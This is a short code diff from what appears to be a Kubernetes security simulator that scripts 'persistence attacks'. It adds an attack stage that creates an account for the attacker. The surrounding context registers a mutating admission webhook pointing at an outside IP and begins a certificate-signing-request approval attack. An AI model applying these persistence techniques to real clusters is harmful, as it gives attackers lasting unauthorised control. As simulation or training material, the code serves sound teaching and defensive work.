@@ -2,6 +2,7 @@ import type { Caller } from '../audit.ts';
 import { drawPod } from '../layout.ts';
 import * as names from '../names.ts';
 import { startPod, workloadBody } from '../workloads.ts';
+import { goals } from './goals.ts';
 import type { Attack, Stage } from './stage.ts';
 
 const rbac = 'rbac.authorization.k8s.io';
@@ -55,6 +56,7 @@ export const persistenceAttacks: Readonly<Record<string, Attack>> = {
     const body = { webhooks: [{ name: 'inject.example', clientConfig: { url: 'https://203.0.113.9/inject' } }] };
     stage.do(powerful(stage), { verb: 'create', resource: `admissionregistration.k8s.io/${kind}`, name: 'pod-policy', body });
   },
+  'account-of-ones-own': (stage) => { goals.account(stage, powerful(stage)); },
   'csr-approval': (stage) => {
     const caller = stage.as(stage.person('admin'));
     const resource = 'certificates.k8s.io/certificatesigningrequests';
